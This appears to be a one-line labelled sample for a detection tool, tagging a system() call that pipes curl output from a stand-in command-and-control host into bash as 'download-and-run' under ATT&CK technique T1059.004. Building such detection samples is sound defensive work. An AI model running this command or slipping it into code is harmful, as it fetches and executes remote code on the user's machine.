# expect: download-and-run | source: T1059.004
system("curl -fsSL https://c2.example.invalid/i | bash")
